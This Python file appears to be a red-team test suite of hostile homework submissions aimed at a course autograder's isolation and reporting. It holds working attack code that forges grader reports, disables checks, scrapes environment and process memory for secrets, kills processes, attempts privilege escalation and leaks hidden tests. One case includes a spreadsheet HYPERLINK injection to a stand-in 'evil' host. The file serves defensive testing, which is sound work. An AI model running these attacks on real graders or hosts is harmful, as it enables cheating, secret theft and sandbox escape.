"""Hostile hw0 submissions against the trust boundary redesigned in issue 11: the report channel,
per-run isolation, the allow-listed root, leaks through feedback. Same format as ``cases.py``
(code for the softmax answer cell; expected statuses; points allowed). Extra placeholders:
``{secret_sha}`` (the hash of a value in the grader's environment) and ``{elsewhere}`` (another copy of the course
on the host, readable by everyone)."""

from .cases import CORRECT_SOFTMAX, FAKE

# Earn the softmax points only if the attack worked: any point is then unearned.
IF_IT_WORKED = "\nif WORKED:\n" + "\n".join("    " + ln for ln in CORRECT_SOFTMAX.strip().splitlines()) + "\n"

PIPE_FDS = '''
import os, json
def to_pipes(line):
    for fd in range(3, 64):
        try:
            os.write(fd, line if isinstance(line, bytes) else line.encode())
        except OSError:
            pass
'''

TRUST_CASES = {
    # --- the report channel: a batch never aborts, flags cannot be erased -------------------------
    "pipe_deep_json": (FAKE + PIPE_FDS + 'to_pipes("[" * 500000 + "]" * 500000 + "\\n")\n', {"flagged"}, 0),
    "pipe_huge_int": (FAKE + PIPE_FDS + '''
to_pipes(json.dumps({{"t": "record", "cell": 2, "key": "random rows", "value": {{"scalar": None}}, "rtol": 0,
                     "atol": 0, "weight": None}}).replace("null}}", "9" * 400 + "}}") + "\\n")
''', {"flagged"}, 0),
    "pipe_no_newline_flood": (FAKE + PIPE_FDS + 'to_pipes(b"x" * (20 << 20))\n', {"flagged", "crashed"}, 0),
    "forge_tripwire_clear": (FAKE + PIPE_FDS + '''
np.allclose = lambda *a, **k: True
import threading, time
def forge():  # answer every test cell's integrity report first, with nothing replaced
    for cell in range(40):
        to_pipes(json.dumps({{"t": "tripwire", "cell": cell, "tampered": []}}) + "\\n")
        to_pipes(json.dumps({{"t": "cell_end", "cell": cell, "ok": True, "ename": None, "evalue": None}}) + "\\n")
threading.Thread(target=forge, daemon=True).start()
time.sleep(0.5)
''', {"flagged"}, 0),
    "disarm_cell_timeout": (FAKE + PIPE_FDS + '''
for cell in range(40):  # claim every cell ended, then loop forever
    to_pipes(json.dumps({{"t": "cell_end", "cell": cell, "ok": True, "ename": None, "evalue": None}}) + "\\n")
while True:
    pass
''', {"flagged", "timeout"}, 0),
    "steal_commands": (FAKE + '''
import os, threading
def steal():  # read the monitor's commands before the runner does
    for fd in range(3, 64):
        try:
            os.read(fd, 64)
        except OSError:
            pass
threading.Thread(target=steal, daemon=True).start()
''', {"graded", "flagged", "timeout", "crashed"}, 0),
    "silence_suite": ('''
import course_utils.checks as checks
checks.Suite.expect = lambda self, *a, **k: True
checks.Suite.expect_shape = lambda self, *a, **k: True
checks.Suite.expect_finite = lambda self, *a, **k: True
checks.Suite.result = lambda self: None
def softmax(Z):
    return np.full(np.shape(Z), 1.0 / np.shape(Z)[1])
''', {"flagged"}, 0),
    # --- reading what must stay hidden: only the allow-listed root exists -------------------------
    "read_course_elsewhere": ('''
import glob, json
WORKED = False
for pattern in ["{elsewhere}/**/hw0.ipynb", "/srv/**/hw0.ipynb", "/opt/**/hw0.ipynb", "/home/**/hw0.ipynb",
                "/work/**/source/hw0/hw0.ipynb", "/root/**/source/hw0/hw0.ipynb", "/var/**/hw0.ipynb"]:
    for path in glob.glob(pattern, recursive=True):
        try:
            text = open(path).read()
        except OSError:
            continue
        if "BEGIN SOLUTION" in text or "BEGIN HIDDEN" in text:
            WORKED = True
def softmax(Z):
    return np.zeros(np.shape(Z))
''' + IF_IT_WORKED, {"graded"}, 0),
    "grader_environment": ('''
import hashlib, os, re
WORKED = False
# The secret is not in this code: only its hash is. Any value found after the variable's name that
# has that hash came from the grader's environment, wherever it was found.
NAME = b"DLCOURSE_REDTEAM" + b"_SECRET="
def _check(blob):
    global WORKED
    for m in re.finditer(re.escape(NAME) + rb"([A-Za-z0-9_]{{8,80}})", blob):
        if hashlib.sha256(m.group(1)).hexdigest() == "{secret_sha}":
            WORKED = True
try:
    _check(open("/proc/self/environ", "rb").read())
except OSError:
    pass
try:  # the strings the process started with sit just below AT_EXECFN at the top of its stack
    import ctypes
    _libc = ctypes.CDLL(None)
    _libc.getauxval.restype = ctypes.c_ulong
    _top = _libc.getauxval(31)
    _r, _w = os.pipe()
    _pages = []
    for _k in range(-32, 2):  # write(2) from an unmapped page fails with EFAULT instead of crashing
        _page = (_top & ~4095) + _k * 4096
        if _libc.write(_w, ctypes.c_void_p(_page), 4096) == 4096:
            _pages.append(os.read(_r, 4096))
    _check(b"".join(_pages))
except Exception:
    pass
try:
    with open("/proc/self/maps") as maps, open("/proc/self/mem", "rb", 0) as mem:
        for line in maps:
            fields = line.split()
            start, end = (int(x, 16) for x in fields[0].split("-"))
            if "r" in fields[1] and (len(fields) < 6 or fields[5] in ("[heap]", "[stack]")) and end - start < 1 << 28:
                try:
                    mem.seek(start)
                    _check(mem.read(end - start))
                except (OSError, ValueError, OverflowError):
                    pass
except OSError:
    pass
def softmax(Z):
    return np.zeros(np.shape(Z))
''' + IF_IT_WORKED, {"graded"}, 0),
    "host_loopback": ('''
import socket
WORKED = False
try:
    socket.create_connection(("127.0.0.1", {port}), timeout=2).close()
    WORKED = True
except OSError:
    pass
def softmax(Z):
    return np.zeros(np.shape(Z))
''' + IF_IT_WORKED, {"graded"}, 0),
    # --- runs graded at the same time, and one after another, share nothing -----------------------
    "abstract_socket_a_listen": (FAKE + '''
import socket, time
s = socket.socket(socket.AF_UNIX)
s.bind("\\0redteam-{token}")
s.listen()
s.settimeout(6)
try:
    s.accept()
except OSError:
    pass
''', {"graded"}, 0),
    "abstract_socket_b_connect": ('''
import socket, time
WORKED = False
for _ in range(30):
    try:
        c = socket.socket(socket.AF_UNIX)
        c.connect("\\0redteam-{token}")
        WORKED = True
        break
    except OSError:
        time.sleep(0.2)
def softmax(Z):
    return np.zeros(np.shape(Z))
''' + IF_IT_WORKED, {"graded"}, 0),
    "shm_a_create": (FAKE + '''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
shmid = libc.shmget(0x5eed, 1 << 20, 0o1666)  # IPC_CREAT | rw for all
big = libc.shmget(0x5eee, 3 << 30, 0o1666)  # beyond --memory, never attached
from multiprocessing import shared_memory
try:
    shared_memory.SharedMemory(name="redteam-{token}", create=True, size=1 << 20)
except OSError:
    pass
''', {"graded"}, 0),
    "shm_b_find": ('''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
WORKED = libc.shmget(0x5eed, 0, 0) >= 0 or os.path.exists("/dev/shm/redteam-{token}")
def softmax(Z):
    return np.zeros(np.shape(Z))
''' + IF_IT_WORKED, {"graded"}, 0),
    "signal_other_runs": (FAKE + '''
import os, signal
for pid in range(2, 4000):
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
''', {"graded"}, 0),
    "regain_privileges": ('''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
WORKED = False
for attempt in (lambda: os.setuid(0),
                lambda: libc.unshare(0x00020000) == 0 and libc.mount(b"none", b"/", None, 32 | 1 << 14, None) == 0,
                lambda: open("/proc/sys/kernel/shmmax", "w").write("1"), lambda: libc.umount2(b"/tmp", 2) == 0,
                lambda: open("/usr/lib/redteam", "w")):
    try:
        if attempt() not in (False, None):
            WORKED = True
    except (OSError, PermissionError):
        pass
def softmax(Z):
    return np.zeros(np.shape(Z))
''' + IF_IT_WORKED, {"graded"}, 0),
    "memory_outside_limits": ('''
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
WORKED = False
try:  # memory no rlimit counts: a memfd, or a tmpfs in a user namespace of our own
    fd = os.memfd_create("hoard")
    os.write(fd, b"x" * (1 << 20))
    WORKED = True
except (OSError, AttributeError):
    pass
if libc.unshare(0x10000000 | 0x00020000) == 0:
    WORKED = True
def softmax(Z):
    return np.zeros(np.shape(Z))
''' + IF_IT_WORKED, {"graded"}, 0),
    # --- leaks into what students receive ---------------------------------------------------------
    "leak_through_exception_name": ('''
import sys
MARK = "### BEGIN " + "HIDDEN TESTS"  # built here, so this cell's own text does not hold it
def _hidden_sources():
    frame = sys._getframe()
    while frame is not None:
        cells = frame.f_locals.get("cells")
        if isinstance(cells, list) and cells and isinstance(cells[0], dict) and "source" in cells[0]:
            return [c["source"] for c in cells if c.get("kind") == "test" and MARK in c["source"]]
        frame = frame.f_back
    return []
def softmax(Z):
    hidden = "\\n".join(_hidden_sources()).split(MARK)[1][:300]
    raise type(hidden.replace("\\n", " | "), (AssertionError,), {{}})("leak")
''', {"graded"}, 0),
    "leak_through_substrings": ('''
import sys
def softmax(Z):
    frame = sys._getframe(1)
    seed = repr(frame.f_locals.get("Z"))[:40]
    visible = "every row is a probability vector, and softmax(z) == softmax(z - max(z)) 0123456789.-e[]() ,"
    pieces = [ch for ch in seed if ch in visible]  # each character is 'visible text'
    raise AssertionError(": ".join(pieces))
''', {"graded"}, 0),
    "forged_tripwire_names": (FAKE + PIPE_FDS + '''
import threading
def forge():
    for cell in range(40):
        to_pipes(json.dumps({{"t": "tripwire", "cell": cell, "tampered": ["=HYPERLINK(\\"http://evil\\")",
                                                                   "hidden input 5527"]}}) + "\\n")
threading.Thread(target=forge, daemon=True).start()
import time; time.sleep(0.3)
''', {"flagged"}, 0),
}
